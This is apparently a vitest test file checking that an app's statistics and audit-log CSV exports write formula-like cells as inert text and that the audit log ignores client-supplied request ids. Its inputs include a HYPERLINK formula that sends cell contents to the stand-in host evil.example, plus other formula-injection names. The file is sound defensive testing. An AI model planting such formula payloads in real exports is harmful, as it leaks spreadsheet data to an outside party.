import { randomUUID } from 'node:crypto';
import { desc, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHttpServer, type HttpServer } from '../../http/serve.js';
import { auditLog, directives, users } from '../../db/schema.js';
import { createAgency, createUserWithId, eventually, json, startWorld, type World } from '../support.js';

/**
 * Exports are inert (review 2026-12, finding 7): a cell a spreadsheet would run as a formula is written as text,
 * and a request id in the audit log is the server's own, whatever the client sent.
 */
let world: World;
let server: HttpServer;
beforeAll(async () => {
  world = await startWorld();
  server = await startHttpServer(world.app, '127.0.0.1', 0);
});
afterAll(async () => {
  await server?.close();
  await world?.close();
});

/** The cells of a CSV line as a spreadsheet reads them (quotes undone); enough for the lines these tests write. */
const cells = (line: string): string[] => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)].slice(0, -1).map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'));

/** What a spreadsheet would run as a formula (OWASP's CSV injection list). */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('exports are inert', () => {
  it('writes a conference title that starts with = into the statistics CSV as text, not as a formula', async () => {
    const lead = await createAgency(world.db, 'So Noi vu');
    const title = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây") ${randomUUID().slice(0, 6)}`;
    const issued = await world.call('POST', '/v1/conferences', { body: { title, directives: [{ title: 'Nhiệm vụ', leadAgency: lead.id, dueAt: new Date(Date.now() + 3_600_000).toISOString() }] } });
    expect(issued.status).toBe(201);
    const { conference } = await json(issued);
    await eventually(() => world.db.select().from(directives).where(eq(directives.conferenceId, conference.id)), (rows) => rows.length > 0);
    const period = `${new Date().getUTCFullYear()}`;
    const res = await world.call('GET', `/v1/statistics?period=${period}&groupBy=conference&format=csv`);
    expect(res.status).toBe(200);
    const line = (await res.text()).split('\n').find((l) => l.startsWith(conference.id));
    expect(line, 'the conference has a line').toBeDefined();
    const row = cells(line!);
    expect(row[1]).toBe(`'${title}`);
    expect(row.filter(live)).toEqual([]);
  });

  it('keeps a client’s X-Request-Id out of the audit log, and writes names that start with = + - @ as text in its CSV', async () => {
    const marker = `=A1=A1`;
    const refused = await fetch(`${server.url}/v1/directives`, { method: 'POST', headers: { 'x-request-id': marker, 'content-type': 'application/json' }, body: '{}' });
    expect(refused.status).toBe(401);
    const answered = refused.headers.get('x-request-id');
    expect(answered).toMatch(/^[0-9a-f-]{36}$/);
    const [row] = await world.db.select().from(auditLog).where(eq(auditLog.requestId, answered!));
    expect(row, 'the refusal is audited under the server’s id').toBeDefined();
    expect(await world.db.select().from(auditLog).where(eq(auditLog.requestId, marker))).toEqual([]);

    // A person whose name a spreadsheet would run: an admin wrote it, and the log repeats it on every write.
    const person = await createUserWithId(world.db, { role: 'admin' });
    const names = ['=1+2', '+1+2', '-1+2', '@SUM(A1)', '\tcmd', '\rcmd'].map((n) => `${n} ${person.id.slice(0, 4)}`);
    for (const name of names) {
      await world.db.update(users).set({ name }).where(eq(users.id, person.id));
      expect((await world.call('PUT', '/v1/calendar/overrides/2097-03-05', { token: person.token, body: { kind: 'day_off' } })).status).toBe(200);
      // The principal is cached for a few seconds: the name the log holds is whatever the cache had, so it is read back.
    }
    const logged = (await world.db.select({ name: auditLog.actorName }).from(auditLog).where(eq(auditLog.actorId, person.id)).orderBy(desc(auditLog.id))).map((r) => r.name!);
    expect(logged.some(live)).toBe(true);
    const csv = await (await world.call('GET', `/v1/audit/export?actor=${person.id}`)).text();
    const lines = csv.replace(/^\uFEFF/, '').split(/\r?\n(?=\d)/).slice(1);
    expect(lines.length).toBe(logged.length);
    for (const line of lines) {
      const row = cells(line);
      expect(row.filter(live), line).toEqual([]);
      expect(logged.map((n) => `'${n}`)).toContain(row[3]);
    }
    await world.call('DELETE', '/v1/calendar/overrides/2097-03-05');
  });
});
